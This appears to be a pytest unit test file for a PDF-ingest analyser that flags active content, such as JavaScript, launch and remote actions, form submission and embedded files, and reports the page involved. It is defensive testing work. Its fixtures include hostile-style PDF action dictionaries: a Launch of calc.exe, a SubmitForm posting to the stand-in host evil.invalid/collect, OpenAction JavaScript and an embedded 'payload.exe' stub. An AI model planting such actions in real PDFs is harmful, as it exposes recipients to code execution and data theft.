"""PDFs with JavaScript, actions that leave the document or embedded files get a warning with
the page that carries them; a plain PDF gets none. Real PDFs made with PyMuPDF, read through
``analyse_file`` (what the importer's worker runs)."""

from __future__ import annotations

import pymupdf
import pytest

from slq_desk.ingest.analyse import analyse_file
from tests.unit.ingest_samples import text_pdf

ACTIVE = {"pdf_javascript", "pdf_launch_action", "pdf_remote_action", "pdf_submit_form",
          "pdf_import_data", "pdf_embedded_file"}


def _base() -> pymupdf.Document:
    doc = pymupdf.open(stream=text_pdf(["甲方：某科技有限公司", "合同金额：100000.00 元"],
                                       title="算力服务合同", pages=3), filetype="pdf")
    return doc


def _with_action(page_index: int, action: str) -> bytes:
    """A link annotation on ``page_index`` whose /A is ``action`` (a PDF dictionary)."""
    doc = _base()
    page = doc[page_index]
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(100, 200, 220, 230),
                      "uri": "https://example.invalid/"})
    xref = page.annot_xrefs()[0][0]
    doc.xref_set_key(xref, "A", action)
    return doc.tobytes()


def _active(data: bytes) -> dict[str, tuple[int | None, object]]:
    report = analyse_file("合同.pdf", data)
    assert report.readable
    return {f.code: (f.page, f.bbox) for f in report.findings if f.code in ACTIVE}


def test_plain_pdf_has_no_active_content_finding() -> None:
    assert _active(text_pdf(["合同编号：HT-1"], title="算力服务合同")) == {}


@pytest.mark.parametrize(("action", "code"), [
    ("<</S/JavaScript/JS(app.alert\\(1\\))>>", "pdf_javascript"),
    ("<</S/Launch/F(calc.exe)>>", "pdf_launch_action"),
    ("<</S/GoToR/F(other.pdf)/D[0/Fit]>>", "pdf_remote_action"),
    ("<</S/SubmitForm/F<</FS/URL/F(https://evil.invalid/collect)>>>>", "pdf_submit_form"),
    ("<</S/ImportData/F(values.fdf)>>", "pdf_import_data"),
    # A name spelled with #xx escapes is the same name.
    ("<</S/J#61vaScript/JS(this.print\\(\\))>>", "pdf_javascript"),
])
def test_annotation_action_is_found_on_its_page(action: str, code: str) -> None:
    found = _active(_with_action(1, action))
    assert set(found) == {code}
    page, bbox = found[code]
    assert page == 1  # 0-based: the second page, shown as 第 2 页
    assert bbox is not None


def test_open_action_javascript_and_embedded_file_are_document_level() -> None:
    doc = _base()
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.launchURL\\(1\\))>>")
    doc.embfile_add("payload.exe", b"MZ\x90\x00 not really a program")
    report = analyse_file("合同.pdf", doc.tobytes())
    by_code = {f.code: f for f in report.findings}
    assert by_code["pdf_javascript"].severity == "warn"
    assert by_code["pdf_javascript"].page is None and "文档级" in by_code["pdf_javascript"].message_zh
    assert "embedded file" in by_code["pdf_embedded_file"].message_en
    # The document is still read: a warning, not a refusal.
    assert report.readable and report.kind == "contract"


def test_page_additional_action_points_at_the_page() -> None:
    doc = _base()
    doc.xref_set_key(doc[2].xref, "AA", "<</O<</S/JavaScript/JS(1)>>>>")
    found = _active(doc.tobytes())
    assert found["pdf_javascript"][0] == 2


def test_damaged_object_tree_never_costs_the_document() -> None:
    doc = _base()
    # An annotation whose action is a dangling reference: nothing to report, nothing breaks.
    data = _with_action(0, "999 0 R")
    report = analyse_file("合同.pdf", data)
    assert report.readable
    doc.close()


def test_font_named_like_a_key_is_not_active_content() -> None:
    """Names that merely start like a key (a font called /JS-Gothic) are not JavaScript."""
    doc = _base()
    xref = doc.get_new_xref()
    doc.update_object(xref, "<</Type/Font/Subtype/Type1/BaseFont/JS-Gothic/Name/EmbeddedFile-X>>")
    assert _active(doc.tobytes()) == {}
